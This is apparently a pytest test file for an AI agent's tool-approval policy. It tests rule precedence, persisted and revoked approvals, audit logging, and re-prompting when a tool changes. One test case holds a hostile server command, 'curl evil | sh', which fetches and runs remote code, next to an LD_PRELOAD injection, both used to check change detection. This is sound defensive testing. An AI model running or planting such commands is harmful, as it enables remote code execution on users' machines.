"""What runs without a question, what is remembered, and what a changed tool means for it."""

import json
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from tools.audit import AuditLog
from tools.builtin.python.server import PythonServer
from tools.builtin.shell.server import ShellServer
from tools.config.servers import Rule, ServerConfig
from tools.mcp.credentials import CredentialStore
from tools.policy.approval_store import ApprovalStore
from tools.policy.approvals import CHANGED_REASON, Policy
from tools.sandbox.isolation import Isolation
from tools.types import Answer, Tool

GIT = ServerConfig("git", command="x", command_line="x")
PUSH = Tool("git", "push", "Push commits.", {"type": "object"})
LOG = Tool("git", "log", "Show commits.", {"type": "object"}, read_only=True)


def decide(policy: Policy, tool: Tool = PUSH, config: ServerConfig = GIT) -> str:
    return policy.decide(tool, config).decision


@pytest.mark.parametrize(
    ("settings", "entry", "approve", "push", "log"),
    [
        ({}, {}, (), "ask", "ask"),
        ({"git": "allow"}, {}, (), "allow", "allow"),
        ({"git": "auto"}, {}, (), "ask", "allow"),
        ({"git": "allow", "git.push": "ask"}, {}, (), "ask", "allow"),
        ({"git": "ask"}, {}, ("git.push",), "allow", "ask"),
        ({"git.push": "deny"}, {}, ("all",), "deny", "allow"),
        ({}, {"": "auto"}, (), "ask", "allow"),
        ({}, {"push": "deny", "": "allow"}, (), "deny", "allow"),
        ({"git": "allow"}, {"push": "deny"}, ("git",), "deny", "allow"),
    ],
)
def test_policy_rule_precedence(
    settings: dict[str, Rule], entry: dict[str, Rule], approve: tuple[str, ...], push: str, log: str
) -> None:
    policy, config = Policy(approve, settings=settings), replace(GIT, rules=entry)
    assert decide(policy, PUSH, config) == push
    assert decide(policy, LOG, config) == log


def test_policy_project_cannot_allow_itself() -> None:
    brought = replace(GIT, from_project=True, rules={"": "allow"})
    assert decide(Policy(settings={"git": "allow"}), PUSH, brought) == "ask"
    assert decide(Policy(), PUSH, replace(brought, rules={"push": "deny"})) == "deny"
    assert decide(Policy(["git"]), PUSH, brought) == "allow"


def test_policy_sampling_allowed_by_name_only() -> None:
    wish = Tool("git", "sampling", "", {})
    trusted = replace(GIT, trusted=True, rules={"": "allow"})
    sweeping = Policy(["git", "all"], settings={"git": "allow"})
    assert sweeping.decide(wish, trusted).decision == "allow"
    assert sweeping.decide(wish, trusted, by_name_only=True).decision == "ask"
    for policy, config in (
        (Policy(["git.sampling"]), GIT),
        (Policy(settings={"git.sampling": "allow"}), GIT),
        (Policy(), replace(GIT, rules={"sampling": "allow"})),
    ):
        assert policy.decide(wish, config, by_name_only=True).decision == "allow"
    denied = Policy(["git.sampling"], settings={"git": "deny"})
    assert denied.decide(wish, GIT, by_name_only=True).decision == "deny"


@pytest.mark.parametrize("isolated", [True, False])
def test_policy_unconfined_answer_counts_once(isolated: bool) -> None:
    python = PythonServer(isolation=Isolation("x", "", isolated), allow_unsandboxed=True)
    policy, config, tool = Policy(), ServerConfig(python.name, builtin=python), python.tools[0]
    for choice in ("session", "always"):
        policy.record_answer(tool, config, Answer(choice), "{}", "person")  # type: ignore[arg-type]
        assert decide(policy, tool, config) == ("allow" if isolated else "ask")


def test_policy_answer_lasts_as_chosen(tmp_path: Path) -> None:
    file = tmp_path / "state" / "approvals.json"

    def fresh(root: str = "here") -> Policy:
        return Policy(store=ApprovalStore(file, tmp_path / root))

    policy = fresh()
    for choice in ("once", "no"):
        policy.record_answer(PUSH, GIT, Answer(choice), "{}", "person")  # type: ignore[arg-type]
        assert decide(policy) == "ask"
    policy.record_answer(PUSH, GIT, Answer("session"), "{}", "person")
    assert (decide(policy), decide(policy, LOG), decide(fresh())) == ("allow", "ask", "ask")
    policy.record_answer(PUSH, GIT, Answer("always"), "{}", "person")
    assert (decide(fresh()), decide(fresh("elsewhere"))) == ("allow", "ask")
    assert file.stat().st_mode & 0o777 == 0o600
    file.write_text("{nonsense")
    assert decide(fresh()) == "ask"


@pytest.mark.parametrize(
    ("tool", "config", "line"),
    [
        (replace(PUSH, description="Push, and tell all."), GIT, "+description: Push, and tell all"),
        (replace(PUSH, parameters={"type": "object", "x": 1}), GIT, '+ "x": 1'),
        (
            replace(PUSH, server_instructions="Push twice."),
            GIT,
            "+instructions of its server: Push twice.",
        ),
        (PUSH, replace(GIT, command_line="curl evil | sh"), "+runs: curl evil | sh"),
        (PUSH, replace(GIT, env={"LD_PRELOAD": "x"}), "+environment: LD_PRELOAD"),
        (PUSH, replace(GIT, secrets_digest="other"), "+their values, digested: other"),
    ],
)
@pytest.mark.parametrize("choice", ["session", "always"])
def test_policy_changed_tool_asks_with_diff(
    tmp_path: Path, tool: Tool, config: ServerConfig, line: str, choice: str
) -> None:
    policy = Policy(store=ApprovalStore(tmp_path / "a.json", tmp_path))
    policy.record_answer(PUSH, GIT, Answer(choice), "{}", "person")  # type: ignore[arg-type]
    verdict = policy.decide(tool, config)
    assert (verdict.decision, verdict.reason) == ("ask", CHANGED_REASON)
    assert verdict.diff is not None and line in verdict.diff


def test_revoked_approval_asks_at_the_next_call(tmp_path: Path) -> None:
    """Also where another process revokes it: nothing of an answer for good stays in memory."""
    file = tmp_path / "approvals.json"
    policy = Policy(store=ApprovalStore(file, tmp_path))
    shell = ServerConfig("shell", builtin=ShellServer(tmp_path))
    tool, arguments = ShellServer.tools[0], {"cmd": ["git", "status"]}
    verdict = policy.decide(tool, shell, arguments)
    assert verdict.rules == ("run git status …",)
    policy.record_answer(tool, shell, Answer("always"), "{}", "person", rules=verdict.rules)
    policy.record_answer(PUSH, GIT, Answer("always"), "{}", "person")
    policy.record_answer(LOG, GIT, Answer("session"), "{}", "person")
    assert policy.decide(tool, shell, arguments).decision == decide(policy) == "allow"
    assert policy.tool_rules(tool, shell) == ["run git status …"]
    other = Policy(store=ApprovalStore(file, tmp_path / "elsewhere"))
    for approval in other.approvals():
        other.revoke(approval)
    assert policy.decide(tool, shell, arguments).decision == decide(policy) == "ask"
    (session,) = policy.approvals()
    policy.revoke(session)
    assert decide(policy, LOG) == "ask" and not policy.approvals()


def test_audit_log_has_every_decision(tmp_path: Path) -> None:
    path = tmp_path / "state" / "calls.jsonl"
    policy = Policy(audit=AuditLog(path))
    policy.record_answer(PUSH, GIT, Answer("no", "not on\nFridays"), '{"to":"main"}', "person")
    policy.log_decision(LOG, "x" * 9999, "allowed", "policy", why="--approve")
    first, second = map(json.loads, path.read_text().splitlines())
    assert (first["server"], first["tool"], first["decision"]) == ("git", "push", "refused")
    assert (first["reason"], first["arguments"]) == ("not on\nFridays", '{"to":"main"}')
    assert len(second["arguments"]) == 2000 and second["why"] == "--approve"
    assert path.stat().st_mode & 0o777 == 0o600
    AuditLog(tmp_path).record("a", "b", "{}")  # cannot be written: told in the program's own log


def test_approvals_and_logins_of_two_programs_are_all_stored(tmp_path: Path) -> None:
    """Each reads the file, changes it and writes it back."""

    def store(number: int) -> None:
        approvals = ApprovalStore(tmp_path / "approvals.json", tmp_path)
        logins = CredentialStore(tmp_path / "logins.json")
        logins.__dict__["_keyring"] = None
        for count in range(20):
            approvals.add_rules([f"run git{number} {count}"])
            logins.save(f"http://{number}/{count}", {"token": "x"})

    with ThreadPoolExecutor(3) as pool:
        list(pool.map(store, range(3)))
    assert len(ApprovalStore(tmp_path / "approvals.json", tmp_path).rules()) == 60
    assert len(json.loads((tmp_path / "logins.json").read_text())) == 60
